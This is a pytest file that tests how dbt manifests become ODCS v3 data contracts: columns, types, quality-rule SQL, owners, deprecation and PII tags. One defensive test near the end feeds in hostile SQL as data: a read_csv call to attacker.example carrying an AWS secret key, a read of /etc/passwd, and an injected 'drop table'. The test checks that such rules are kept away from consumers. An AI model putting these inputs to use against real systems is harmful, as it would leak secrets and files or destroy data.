"""ODCS v3 contracts, generated from the manifest fixtures.

The fixtures are the customers, orders and analytics manifests as dbt parses the domains
(see test_policies.py); the analytics one also holds the upstream products dbt-loom injected.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from mesh.discovery.manifest import Manifest, parse
from mesh.errors import DomainConfigError
from mesh.governance import odcs

FIXTURES = Path(__file__).parent / "fixtures"
PUBLISHED_AT = "2026-11-24T13:00:00+00:00"

Raw = dict[str, Any]  # a manifest as dbt writes it, for the tests to change

PRODUCT_VERSIONS = [
    ("customers", "model.customers.customers.v1"),
    ("orders", "model.orders.order_lines.v1"),
    ("orders", "model.orders.orders.v1"),
    ("orders", "model.orders.orders.v2"),
    ("analytics", "model.analytics.sales_by_region_and_category.v1"),
]


@cache
def _fixture(domain: str) -> Raw:
    manifest: Raw = json.loads((FIXTURES / f"{domain}_manifest.json").read_text())
    return manifest


def manifest(domain: str, change: Callable[[Raw], object] | None = None) -> Manifest:
    """The domain's fixture manifest, changed by `change` in a copy."""
    copied = copy.deepcopy(_fixture(domain))
    if change is not None:
        change(copied)
    return parse(copied)


def contract_of(
    domain: str, unique_id: str, change: Callable[[Raw], object] | None = None
) -> dict[str, Any]:
    return odcs.contract(domain, manifest(domain, change), unique_id, published_at=PUBLISHED_AT)


def columns(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    [table] = document["schema"]
    return {column["name"]: column for column in table["properties"]}


def custom(item: dict[str, Any]) -> dict[str, Any]:
    return {entry["property"]: entry["value"] for entry in item.get("customProperties", [])}


def metrics(column: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """A column's library quality rules by metric."""
    return {rule["metric"]: rule for rule in column.get("quality", []) if "metric" in rule}


def test_the_fixtures_hold_the_expected_public_product_versions() -> None:
    found = sorted(
        (domain, uid)
        for domain in ("customers", "orders", "analytics")
        for uid, node in _fixture(domain)["nodes"].items()
        if node["resource_type"] == "model"
        and node["package_name"] == domain
        and node.get("access") == "public"
    )
    assert found == sorted(PRODUCT_VERSIONS)


@pytest.mark.parametrize(("domain", "unique_id"), PRODUCT_VERSIONS)
def test_every_product_version_gets_a_valid_contract(domain: str, unique_id: str) -> None:
    document = contract_of(domain, unique_id)
    assert odcs.validate(document) == []
    name, version = unique_id.split(".")[2:]
    assert document["apiVersion"] == odcs.API_VERSION == "v3.2.0"
    assert document["kind"] == "DataContract"
    assert document["id"] == f"{domain}.{name}.{version}"
    assert document["version"] == f"{version.removeprefix('v')}.0.0"
    assert (document["domain"], document["dataProduct"]) == (domain, name)
    assert document["contractCreatedTs"] == PUBLISHED_AT
    # The YAML reads back as the same document: dates and versions stay strings.
    assert yaml.safe_load(odcs.to_yaml(document)) == document


def test_yaml_keeps_the_order_the_document_was_built_in() -> None:
    text = odcs.to_yaml(contract_of("orders", "model.orders.orders.v2"))
    assert text.startswith("apiVersion: v3.2.0\nkind: DataContract\nid: orders.orders.v2\n")


def test_orders_v2_columns_keys_and_types() -> None:
    found = columns(contract_of("orders", "model.orders.orders.v2"))
    assert [name for name, c in found.items() if c.get("primaryKey")] == ["order_id"]
    assert found["order_id"]["primaryKeyPosition"] == 1
    assert [name for name, c in found.items() if c["required"]] == [
        "order_id",
        "customer_id",
        "order_status",
        "ordered_at",
    ]
    assert [name for name, c in found.items() if c.get("unique")] == ["order_id"]
    types = {name: (c.get("logicalType"), c["physicalType"]) for name, c in found.items()}
    assert types["order_id"] == ("integer", "bigint")
    assert types["item_count"] == ("integer", "integer")
    assert types["gross_amount_usd"] == ("number", "decimal(18,2)")
    assert types["channel"] == ("string", "varchar")
    assert types["is_fully_paid"] == ("boolean", "boolean")
    assert types["ordered_date"] == ("date", "date")
    assert types["ordered_at"] == ("timestamp", "timestamp")
    assert found["order_id"]["description"] == "Key of the order, shared by every domain."
    assert {c["classification"] for c in found.values()} == {"internal"}


def test_a_column_is_required_by_its_not_null_test_alone() -> None:
    def change(m: Raw) -> None:
        column = m["nodes"]["model.orders.orders.v2"]["columns"]["customer_id"]
        column["constraints"] = []

    assert columns(contract_of("orders", "model.orders.orders.v2", change))["customer_id"][
        "required"
    ]

    def without_test(m: Raw) -> None:
        change(m)
        del m["nodes"]["test.orders.not_null_orders_v2_customer_id.287a720973"]

    found = columns(contract_of("orders", "model.orders.orders.v2", without_test))
    assert found["customer_id"]["required"] is False
    assert "quality" not in found["customer_id"]


def test_orders_v2_quality_rules_come_from_its_data_tests() -> None:
    document = contract_of("orders", "model.orders.orders.v2")
    found = columns(document)
    key_rules = metrics(found["order_id"])
    assert set(key_rules) == {"duplicateValues", "nullValues"}
    assert key_rules["duplicateValues"]["mustBe"] == key_rules["nullValues"]["mustBe"] == 0
    assert {rule["type"] for rule in key_rules.values()} == {"library"}
    assert custom(key_rules["duplicateValues"]) == {"dbtTest": "unique_orders_v2_order_id"}

    status = metrics(found["order_status"])["invalidValues"]
    assert status["arguments"] == {"validValues": ["placed", "shipped", "delivered", "cancelled"]}
    assert status["mustBe"] == 0 and status["severity"] == "error"

    [range_rule] = found["net_amount_usd"]["quality"]
    assert range_rule["type"] == "sql"
    assert range_rule["query"] == (
        "select count(*) from {model} "
        "where net_amount_usd is not null and not (net_amount_usd >= 0)"
    )
    assert range_rule["mustBe"] == 0

    [table_rule] = document["schema"][0]["quality"]
    assert (table_rule["metric"], table_rule["mustBeGreaterThan"]) == ("rowCount", 0)
    assert "quality" not in found["ordered_date"]  # no tests, no rules


def test_a_warning_test_is_a_warning_rule() -> None:
    def change(m: Raw) -> None:
        test = m["nodes"]["test.orders.not_null_orders_v2_customer_id.287a720973"]
        test["config"]["severity"] = "WARN"

    [rule] = columns(contract_of("orders", "model.orders.orders.v2", change))["customer_id"][
        "quality"
    ]
    assert rule["severity"] == "warning"


def test_relationships_expression_and_range_rules_are_runnable_sql() -> None:
    """Rules name the table under test as `{model}`, the placeholder of ODCS tools, and read
    another product from its Parquet port in the same publish, from the contract's folder."""
    lines = columns(contract_of("orders", "model.orders.order_lines.v1"))
    [relationship] = [r for r in lines["order_id"]["quality"] if r["name"] == "relationships"]
    assert relationship["query"] == (
        "select count(*) from {model} where order_id is not null and order_id not in (select "
        "order_id from read_parquet('../../../products/orders/v2/orders_v2.parquet') "
        "where order_id is not null)"
    )

    document = contract_of("analytics", "model.analytics.sales_by_region_and_category.v1")
    [expression] = [
        r for r in document["schema"][0]["quality"] if r["name"] == "expression_is_true"
    ]
    assert expression["query"] == (
        "select count(*) from {model} where not "
        "(on_time_order_count <= delivered_order_count and delivered_order_count <= order_count)"
    )
    [rate] = columns(document)["on_time_delivery_rate"]["quality"]
    assert "not (on_time_delivery_rate >= 0 and on_time_delivery_rate <= 1)" in rate["query"]


def test_other_generic_tests_become_dbt_rules() -> None:
    def change(m: Raw) -> None:
        test = m["nodes"]["test.orders.not_null_orders_v2_customer_id.287a720973"]
        test["test_metadata"] = {
            "name": "at_least_one",
            "namespace": "dbt_utils",
            "kwargs": {"column_name": "customer_id", "model": "{{ ... }}", "group_by": ["x"]},
        }

    document = contract_of("orders", "model.orders.orders.v2", change)
    [rule] = columns(document)["customer_id"]["quality"]
    assert rule["type"] == "custom" and rule["engine"] == "dbt"
    assert rule["implementation"] == {
        "test": "dbt_utils.at_least_one",
        "arguments": {"group_by": ["x"]},
    }
    assert custom(rule)["meshOnly"] is True  # standard tools skip it: the contract says so
    assert odcs.validate(document) == []


def test_orders_v2_owner_freshness_and_archetype_come_from_meta_and_group() -> None:
    document = contract_of("orders", "model.orders.orders.v2")
    assert document["status"] == "active"
    assert document["team"]["name"] == "Checkout Team"
    assert document["team"]["members"] == [
        {"username": "checkout-team@shop.example", "name": "Checkout Team", "role": "owner"}
    ]
    assert document["support"][0]["url"] == "mailto:checkout-team@shop.example"
    sla = {item["property"]: item for item in document["slaProperties"]}
    assert (sla["freshness"]["value"], sla["freshness"]["unit"]) == (6, "h")
    assert (sla["frequency"]["value"], sla["frequency"]["unit"]) == (1, "h")
    properties = custom(document)
    assert properties["archetype"] == "source-aligned"
    assert properties["relation"] == "orders.main.orders_v2"
    assert "deprecationDate" not in properties


def test_a_meta_owner_other_than_the_group_is_the_product_owner() -> None:
    def change(m: Raw) -> None:
        m["nodes"]["model.orders.orders.v2"]["config"]["meta"]["owner"] = "ana@shop.example"

    document = contract_of("orders", "model.orders.orders.v2", change)
    assert document["team"]["members"][1] == {
        "username": "ana@shop.example",
        "role": "productOwner",
    }
    assert document["support"][0]["url"] == "mailto:ana@shop.example"


def test_orders_v2_says_how_to_read_it_and_on_what_terms() -> None:
    description = contract_of("orders", "model.orders.orders.v2")["description"]
    assert description["purpose"].startswith("Data product: one row per order placed")
    assert "orders.main.orders_v2" in description["usage"]
    assert "ref('orders', 'orders', v=2)" in description["usage"]
    assert "orders_v2.parquet" in description["usage"]
    terms = description["limitations"]
    assert "Internal to the shop" in terms
    assert "hash" in terms and "pin a version" in terms and "deprecated" in terms


def test_orders_v1_is_deprecated_with_its_date() -> None:
    document = contract_of("orders", "model.orders.orders.v1")
    assert document["status"] == "deprecated"
    assert document["version"] == "1.0.0"
    assert custom(document)["deprecationDate"] == "2027-06-30"
    assert custom(document)["latestVersion"] == "2"
    assert document["schema"][0]["deprecated"] is True
    assert "removed after 2027-06-30. Use v2." in document["description"]["limitations"]
    assert "order_total" in columns(document)


def test_customers_email_hash_is_restricted_hashed_pii() -> None:
    document = contract_of("customers", "model.customers.customers.v1")
    found = columns(document)
    assert found["email_hash"]["classification"] == "restricted"
    assert found["email_hash"]["tags"] == ["pii-hashed"]
    assert "hash_pii" in found["email_hash"]["transformDescription"]
    others = {c["classification"] for name, c in found.items() if name != "email_hash"}
    assert others == {"internal"}
    assert "(here: email_hash)" in document["description"]["limitations"]


def test_a_hash_column_not_made_by_hash_pii_is_not_called_hashed_pii() -> None:
    def change(m: Raw) -> None:
        model = m["nodes"]["model.customers.customers.v1"]
        model["raw_code"] = model["raw_code"].replace(
            "{{ shared_macros.hash_pii('email') }}", "md5(email)"
        )

    found = columns(contract_of("customers", "model.customers.customers.v1", change))
    assert found["email_hash"]["classification"] == "internal"
    assert "tags" not in found["email_hash"]


def test_a_column_tagged_pii_anywhere_is_restricted() -> None:
    def change(m: Raw) -> None:
        m["nodes"]["model.customers.customers.v1"]["columns"]["email"] = {
            "name": "email",
            "data_type": "varchar",
            "description": "Email address.",
        }

    document = contract_of("customers", "model.customers.customers.v1", change)
    assert columns(document)["email"]["classification"] == "restricted"
    assert columns(document)["email"]["tags"] == ["pii"]
    assert odcs.validate(document) == []


def test_a_composite_primary_key_has_positions() -> None:
    found = columns(contract_of("analytics", "model.analytics.sales_by_region_and_category.v1"))
    keys = {name: c["primaryKeyPosition"] for name, c in found.items() if c.get("primaryKey")}
    assert keys == {"region": 1, "category_name": 2}
    assert not any(c.get("unique") for c in found.values())


def test_only_public_models_of_the_domain_have_contracts() -> None:
    with pytest.raises(ValueError, match="not a public model of orders"):
        odcs.contract("orders", manifest("orders"), "model.orders.int_orders_latest")
    with pytest.raises(ValueError, match="not a model"):
        odcs.contract("orders", manifest("orders"), "model.orders.nope.v9")


def test_without_published_at_there_is_no_creation_time() -> None:
    document = odcs.contract("orders", manifest("orders"), "model.orders.orders.v2")
    assert "contractCreatedTs" not in document
    assert odcs.validate(document) == []


@pytest.mark.parametrize(
    ("data_type", "logical"),
    [
        ("bigint", "integer"),
        ("INTEGER", "integer"),
        ("hugeint", "integer"),
        ("decimal(5,4)", "number"),
        ("double", "number"),
        ("varchar", "string"),
        ("VARCHAR(20)", "string"),
        ("boolean", "boolean"),
        ("date", "date"),
        ("timestamp", "timestamp"),
        ("timestamp with time zone", "timestamp"),
        ("time", "time"),
        ("integer[]", "array"),
        ("struct(a integer)", "object"),
        ("map(varchar, integer)", "object"),
        ("interval", "string"),
        ("json", "string"),
    ],
)
def test_logical_types(data_type: str, logical: str) -> None:
    assert odcs.logical_type(data_type)[0] == logical


def test_every_column_has_a_logical_type_the_schema_accepts() -> None:
    # The schema's if/then rules reject a property without a logicalType.
    def change(m: Raw) -> None:
        node = m["nodes"]["model.orders.orders.v2"]
        node["columns"]["channel"]["data_type"] = "interval"
        node["columns"]["item_count"]["data_type"] = "map(varchar, integer)"

    document = contract_of("orders", "model.orders.orders.v2", change)
    assert odcs.validate(document) == []
    found = columns(document)
    assert (found["channel"]["logicalType"], found["channel"]["physicalType"]) == (
        "string",
        "interval",
    )
    del found["channel"]["logicalType"]
    assert odcs.validate(document) == ["$.schema[0].properties[2]: 'map' is a required property"]


def test_a_column_without_a_name_fails_validation_with_a_message() -> None:
    document = contract_of("orders", "model.orders.orders.v2")
    del document["schema"][0]["properties"][2]["name"]
    assert odcs.validate(document) == ["$.schema[0].properties[2]: 'name' is a required property"]


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("apiVersion",), "v9.9.9", "$.apiVersion: 'v9.9.9' is not one of"),
        (("schema", 0, "properties", 0, "logicalType"), "int", "'int' is not one of"),
        (("contractCreatedTs",), "yesterday", "'yesterday' is not a 'date-time'"),
        (("schema", 0, "properties", 0, "colour"), "red", "'colour' was unexpected"),
    ],
)
def test_broken_documents_fail_validation(
    path: tuple[str | int, ...], value: str, message: str
) -> None:
    document = contract_of("orders", "model.orders.orders.v2")
    parent: Any = document
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] = value
    errors = odcs.validate(document)
    assert any(message in error for error in errors), errors


def test_the_volume_limits_a_product_declares_are_in_its_contract() -> None:
    def declare(raw: Raw) -> None:
        raw["nodes"]["model.orders.orders.v2"]["config"]["meta"]["volume"] = {
            "max_shrink": 0.2,
            "max_growth": 3,
        }

    assert custom(contract_of("orders", "model.orders.orders.v2"))["volumeMaxShrink"] == 0.5
    declared = custom(contract_of("orders", "model.orders.orders.v2", declare))
    assert (declared["volumeMaxShrink"], declared["volumeMaxGrowth"]) == (0.2, 3.0)


@pytest.mark.parametrize(
    "limits",
    [{"max_shrink": 1.5}, {"max_shrink": "half"}, {"max_growth": 0.5}, {"max_rows": 10}, [1]],
)
def test_a_bad_volume_limit_is_one_clear_error(limits: object) -> None:
    def declare(raw: Raw) -> None:
        raw["nodes"]["model.orders.orders.v2"]["config"]["meta"]["volume"] = limits

    with pytest.raises(DomainConfigError, match=r"orders v2 \(models/marts/orders.yml\): meta"):
        contract_of("orders", "model.orders.orders.v2", declare)


def test_a_retired_version_has_a_valid_contract_that_says_it_was_removed() -> None:
    document = odcs.contract("orders", manifest("orders"), "model.orders.orders.v1", retired=True)
    assert odcs.validate(document) == []
    assert document["status"] == "retired" and "servers" not in document
    assert "it is no longer published" in document["description"]["limitations"]


SALES = "model.analytics.sales_by_region_and_category.v1"
REGION_NOT_NULL = "test.analytics.not_null_sales_by_region_and_category_v1_region.ce043b74fd"


def _region_references_orders(m: Raw) -> None:
    """The analytics product's `region` test, turned into a relationship to orders v2 (a
    product of another domain, which dbt-loom injected into the manifest)."""
    test = m["nodes"][REGION_NOT_NULL]
    test["test_metadata"] = {
        "name": "relationships",
        "kwargs": {"to": "ref('orders', 'orders', v=2)", "field": "order_id"},
    }
    test["depends_on"]["nodes"].append("model.orders.orders.v2")


def test_a_relationship_to_another_domain_reads_the_upstream_publish_the_build_read() -> None:
    sales = manifest("analytics", _region_references_orders)
    document = odcs.contract("analytics", sales, SALES, upstreams={"orders": "20261201-abc"})
    [rule] = [r for r in columns(document)["region"]["quality"] if r["name"] == "relationships"]
    port = "../../../../../orders/20261201-abc/products/orders/v2/orders_v2.parquet"
    assert f"read_parquet('{port}')" in rule["query"]
    assert rule["query"].startswith("select count(*) from {model} where region is not null")
    assert "meshOnly" not in custom(rule)
    # Without the publish the build read, the upstream's current one.
    document = odcs.contract("analytics", sales, SALES)
    [rule] = [r for r in columns(document)["region"]["quality"] if r["name"] == "relationships"]
    assert "'../../../../../orders/current/products/orders/v2/orders_v2.parquet'" in rule["query"]
    assert odcs.validate(document) == []


def test_a_relationship_to_a_model_that_is_no_product_is_mesh_only_and_says_why() -> None:
    def change(m: Raw) -> None:
        _region_references_orders(m)
        nodes = m["nodes"][REGION_NOT_NULL]["depends_on"]["nodes"]
        nodes[-1] = "model.orders.int_orders_latest"  # private: no output port to read

    [rule] = [
        r
        for r in columns(contract_of("analytics", SALES, change))["region"]["quality"]
        if r["name"] == "relationships"
    ]
    assert (rule["type"], rule["engine"]) == ("custom", "dbt")
    assert custom(rule)["meshOnly"] is True
    [reason] = [p for p in rule["customProperties"] if p["property"] == "meshOnly"]
    assert "a relationship to a model that is not a product version" in reason["description"]


def test_a_unique_combination_counts_null_keys_as_a_value_as_its_macro_does() -> None:
    """A library duplicateValues leaves rows with a null key out; the macro groups them."""
    [rule] = [
        r for r in contract_of("analytics", SALES)["schema"][0]["quality"]
        if r["name"] == "unique_combination"
    ]  # fmt: skip
    assert rule["query"] == (
        "select count(*) from (select region, category_name from {model} "
        "group by region, category_name having count(*) > 1)"
    )
    assert rule["mustBe"] == 0


def test_a_test_with_a_where_is_a_sql_rule_over_the_rows_it_tests() -> None:
    """A library metric has no filter: a test limited by `where` keeps its limit as SQL."""

    def change(m: Raw) -> None:
        for node in m["nodes"].values():
            if node["resource_type"] == "test":
                node["config"]["where"] = "order_status <> 'cancelled'"

    found = columns(contract_of("orders", "model.orders.orders.v2", change))
    rules = {rule["name"]: rule for rule in found["order_id"]["quality"]}
    assert rules["not_null"]["query"] == (
        "select count(*) from {model} where order_id is null and (order_status <> 'cancelled')"
    )
    assert rules["unique"]["query"] == (
        "select count(*) from (select order_id from {model} where order_id is not null and "
        "(order_status <> 'cancelled') group by order_id having count(*) > 1)"
    )
    [status] = [r for r in found["order_status"]["quality"] if r["name"] == "accepted_values"]
    assert status["query"] == (
        "select count(*) from {model} where order_status not in ('placed', 'shipped', "
        "'delivered', 'cancelled') and (order_status <> 'cancelled')"
    )
    assert all(rule["type"] == "sql" for rule in rules.values())


def test_the_table_is_named_as_it_is_stored_and_every_path_is_relative_to_the_contract() -> None:
    document = contract_of("orders", "model.orders.orders.v2")
    [table] = document["schema"]
    assert table["name"] == table["physicalName"] == "orders_v2"
    assert table["businessName"] == "Orders"
    servers = {server["server"]: server for server in document["servers"]}
    assert servers["mesh"]["database"] == "../../../orders.duckdb"
    assert servers["parquet"]["path"] == "./orders_v2.parquet"
    assert "datacontract test contract.odcs.yaml" in document["description"]["usage"]


@pytest.mark.parametrize(
    ("where", "why"),
    [
        (
            "exists (select 1 from read_csv('https://attacker.example/${AWS_SECRET_ACCESS_KEY}'))",
            "`${`",
        ),
        ("exists (select 1 from read_csv('https://attacker.example/x.csv'))", "READ_CSV"),
        ("region in (select name from duckdb_settings())", "DUCKDB_SETTINGS()"),
        ("region in (select region from '/etc/passwd')", "not only the product"),
        ("region <> '{table}'", "placeholder other than {model}"),
        ("1 = 1); drop table x; select (1", "not a single SELECT"),
    ],
)
def test_sql_that_reads_more_than_the_product_never_reaches_a_consumers_tool(
    where: str, why: str
) -> None:
    """The SQL a domain writes (here a `where`) runs on consumers' machines through their
    tool: a rule that would read their files, network or environment is mesh-only."""

    def change(m: Raw) -> None:
        m["nodes"][REGION_NOT_NULL]["config"]["where"] = where

    [rule] = columns(contract_of("analytics", SALES, change))["region"]["quality"]
    assert (rule["type"], "query" in rule) == ("custom", False)
    [reason] = [p for p in rule["customProperties"] if p["property"] == "meshOnly"]
    assert "its SQL is not handed to consumers' tools" in reason["description"]
    assert why in reason["description"]


def test_the_rules_own_sql_passes_the_check() -> None:
    from mesh.governance.quality_rules import unsafe

    for domain, unique_id in PRODUCT_VERSIONS:
        document = contract_of(domain, unique_id)
        [table] = document["schema"]
        rules = [*table.get("quality", [])]
        rules += [rule for column in table["properties"] for rule in column.get("quality", [])]
        for rule in rules:
            assert rule["type"] != "custom", (unique_id, rule)
            if rule["type"] == "sql":
                assert unsafe(rule["query"]) is None, rule["query"]


def test_a_test_with_a_threshold_of_its_own_is_mesh_only() -> None:
    def change(m: Raw) -> None:
        m["nodes"][REGION_NOT_NULL]["config"]["error_if"] = ">10"

    found = columns(contract_of("analytics", SALES, change))["region"]
    [rule] = found["quality"]
    assert rule["type"] == "custom"
    assert "its error_if is not dbt's default" in str(rule["customProperties"])
    # Nor is the column checked as required on every row: dbt lets ten nulls through.
    key = found.get("primaryKey")  # region is a key column: required by its constraint
    assert found["required"] is bool(key)


def test_a_test_of_another_package_is_not_read_as_the_mesh_s_own() -> None:
    """dbt_utils.expression_is_true on a column renders `not (column expression)`."""

    def change(m: Raw) -> None:
        test = m["nodes"]["test.orders.not_null_orders_v2_customer_id.287a720973"]
        test["test_metadata"] = {
            "name": "expression_is_true",
            "namespace": "dbt_utils",
            "kwargs": {"column_name": "customer_id", "expression": ">= 0"},
        }

    [rule] = columns(contract_of("orders", "model.orders.orders.v2", change))["customer_id"][
        "quality"
    ]
    assert rule["type"] == "custom"
    assert rule["implementation"]["test"] == "dbt_utils.expression_is_true"


def test_accepted_values_without_quotes_are_written_as_dbt_writes_them() -> None:
    def change(m: Raw) -> None:
        for node in m["nodes"].values():
            if (node.get("test_metadata") or {}).get("name") == "accepted_values":
                node["test_metadata"]["kwargs"]["quote"] = False
                node["test_metadata"]["kwargs"]["values"] = ["'web'", "'app'", "'marketplace'"]

    [rule] = columns(contract_of("orders", "model.orders.orders.v2", change))["channel"]["quality"]
    assert rule["query"] == (
        "select count(*) from {model} where channel not in ('web', 'app', 'marketplace')"
    )
